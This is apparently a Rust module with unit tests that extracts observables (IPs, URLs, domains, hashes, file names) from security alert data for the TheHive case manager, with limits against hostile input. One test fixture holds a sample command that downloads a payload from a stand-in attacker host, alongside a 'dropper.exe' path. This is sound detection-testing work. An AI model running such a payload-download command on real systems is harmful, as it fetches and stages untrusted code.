//! Observables for case management (TheHive): the addresses, names,
//! links and hashes an alert's context holds, found in its values.
//!
//! Every string in `event_data` is cut into words; a word that parses as
//! an IP address, starts with `http(s)://` or is all hex of a hash's
//! length is taken; a value under a member whose name speaks of a file
//! or path gives its last component as a file name. The client's host
//! name and FQDN come from the lookups. Bounded: at most
//! [`MAX_OBSERVABLES`], each at most [`MAX_DATA_CHARS`], from at most
//! [`MAX_VALUES`] strings, so a hostile row costs little.

use std::net::{IpAddr, SocketAddr};

use serde_json::{Map, Value};

/// Most observables one alert carries.
pub const MAX_OBSERVABLES: usize = 50;
/// Longest value taken, in characters; longer ones are not observables.
pub const MAX_DATA_CHARS: usize = 2048;
/// Most strings of an alert's context looked at.
const MAX_VALUES: usize = 1000;
/// Deepest nesting of the context looked into.
const MAX_DEPTH: usize = 16;

/// What an observable is, by TheHive's default data types.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Kind {
    Ip,
    Domain,
    Url,
    Hash,
    Filename,
    Hostname,
    Fqdn,
}

impl Kind {
    /// TheHive's name for the data type.
    pub fn data_type(self) -> &'static str {
        match self {
            Self::Ip => "ip",
            Self::Domain => "domain",
            Self::Url => "url",
            Self::Hash => "hash",
            Self::Filename => "filename",
            Self::Hostname => "hostname",
            Self::Fqdn => "fqdn",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Observable {
    pub kind: Kind,
    pub data: String,
}

/// The observables of the values a template could use (`fqdn`,
/// `hostname`, `event_data`), each once, in the order found.
pub fn observables(facts: &Map<String, Value>) -> Vec<Observable> {
    let mut found = Found::default();
    let at = |name: &str| facts.get(name).and_then(Value::as_str).unwrap_or("");
    found.add(Kind::Hostname, at("hostname"));
    if at("fqdn") != at("hostname") {
        found.add(Kind::Fqdn, at("fqdn"));
    }
    if let Some(data) = facts.get("event_data") {
        found.walk("", data, 0);
    }
    found.list
}

#[derive(Default)]
struct Found {
    list: Vec<Observable>,
    values_seen: usize,
}

impl Found {
    fn add(&mut self, kind: Kind, data: &str) {
        let data = data.trim();
        if data.is_empty() || data.chars().count() > MAX_DATA_CHARS || self.list.len() >= MAX_OBSERVABLES {
            return;
        }
        let observable = Observable {
            kind,
            data: data.to_string(),
        };
        if !self.list.contains(&observable) {
            self.list.push(observable);
        }
    }

    fn walk(&mut self, member: &str, value: &Value, depth: usize) {
        if depth > MAX_DEPTH || self.values_seen >= MAX_VALUES || self.list.len() >= MAX_OBSERVABLES {
            return;
        }
        match value {
            Value::String(text) => {
                self.values_seen += 1;
                self.text(member, text);
            }
            Value::Array(items) => items.iter().for_each(|item| self.walk(member, item, depth + 1)),
            Value::Object(members) => members.iter().for_each(|(name, item)| self.walk(name, item, depth + 1)),
            _ => {}
        }
    }

    fn text(&mut self, member: &str, text: &str) {
        if names_a_file(member)
            && let Some(name) = text.rsplit(['/', '\\']).next()
            && !text.contains("://")
        {
            self.add(Kind::Filename, name);
        }
        for word in text.split(|c: char| c.is_whitespace() || "\"'(){}<>`".contains(c)) {
            let word = word.trim_matches(['[', ']', '.', ',']);
            if let Some(rest) = word.strip_prefix("https://").or_else(|| word.strip_prefix("http://")) {
                self.url(word, rest);
            } else {
                // `key=value;key=value`: each value on its own.
                for piece in word.split([',', ';', '|', '=']) {
                    self.word(piece.trim_matches(['[', ']', '.']));
                }
            }
        }
    }

    fn url(&mut self, url: &str, after_scheme: &str) {
        self.add(Kind::Url, url);
        let host = after_scheme.split(['/', '?', '#']).next().unwrap_or("");
        match ip_in(host) {
            Some(ip) => self.add(Kind::Ip, &ip.to_string()),
            None => self.add(Kind::Domain, host.rsplit_once(':').map_or(host, |(h, _)| h)),
        }
    }

    fn word(&mut self, word: &str) {
        if let Some(ip) = ip_in(word) {
            self.add(Kind::Ip, &ip.to_string());
        } else if is_hash(word) {
            self.add(Kind::Hash, &word.to_ascii_lowercase());
        }
    }
}

/// Whether a member's name says it holds a file's name or path
/// (`OSPath`, `FullPath`, `FileName`, `TargetFilename`...).
fn names_a_file(member: &str) -> bool {
    let lower = member.to_ascii_lowercase();
    lower.contains("path") || lower.contains("file")
}

/// An address worth looking into: `1.2.3.4`, `1.2.3.4:443`, `::1`-style
/// or `[v6]:443`; not loopback nor unspecified.
fn ip_in(word: &str) -> Option<IpAddr> {
    let ip = word
        .parse::<IpAddr>()
        .ok()
        .or_else(|| word.parse::<SocketAddr>().ok().map(|s| s.ip()))?;
    (!ip.is_loopback() && !ip.is_unspecified()).then_some(ip)
}

/// MD5, SHA-1, SHA-256 or SHA-512 in hex.
fn is_hash(word: &str) -> bool {
    matches!(word.len(), 32 | 40 | 64 | 128) && word.bytes().all(|b| b.is_ascii_hexdigit())
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn found(facts: Value) -> Vec<(&'static str, String)> {
        observables(facts.as_object().unwrap())
            .into_iter()
            .map(|o| (o.kind.data_type(), o.data))
            .collect()
    }

    #[test]
    fn addresses_links_hashes_and_file_names_are_taken_from_the_context() {
        let facts = json!({
            "hostname": "ws1", "fqdn": "ws1.corp.example",
            "event_data": {
                "CommandLine": "curl -o /tmp/x https://evil.example.net:8443/payload?id=1 from=203.0.113.9:443",
                "OSPath": "C:\\Users\\bob\\AppData\\dropper.exe",
                "Hashes": {"SHA256": "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"},
                "Peers": ["198.51.100.7", "127.0.0.1", "0.0.0.0", "2001:db8::5"],
                "Count": 3,
            },
        });
        assert_eq!(
            found(facts),
            [
                ("hostname", "ws1".to_string()),
                ("fqdn", "ws1.corp.example".into()),
                ("url", "https://evil.example.net:8443/payload?id=1".into()),
                ("domain", "evil.example.net".into()),
                ("ip", "203.0.113.9".into()),
                ("filename", "dropper.exe".into()),
                (
                    "hash",
                    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855".into()
                ),
                ("ip", "198.51.100.7".into()),
                ("ip", "2001:db8::5".into()),
            ]
        );
    }

    #[test]
    fn a_hostile_context_yields_a_bounded_list() {
        let many: Vec<String> = (0..5000).map(|i| format!("10.0.{}.{}", i / 250, i % 250)).collect();
        let deep = (0..100).fold(json!("203.0.113.1"), |inner, _| json!({ "x": inner }));
        let facts = json!({"event_data": {"Many": many.join(" "), "Deep": deep, "Long": "a".repeat(100_000)}});
        let list = observables(facts.as_object().unwrap());
        assert_eq!(list.len(), MAX_OBSERVABLES);
        assert!(list.iter().all(|o| o.kind == Kind::Ip && o.data.starts_with("10.0.")));
    }

    #[test]
    fn the_same_value_is_one_observable() {
        let facts = json!({"event_data": {"A": "198.51.100.7", "B": ["198.51.100.7"]}});
        assert_eq!(found(facts), [("ip", "198.51.100.7".to_string())]);
    }
}
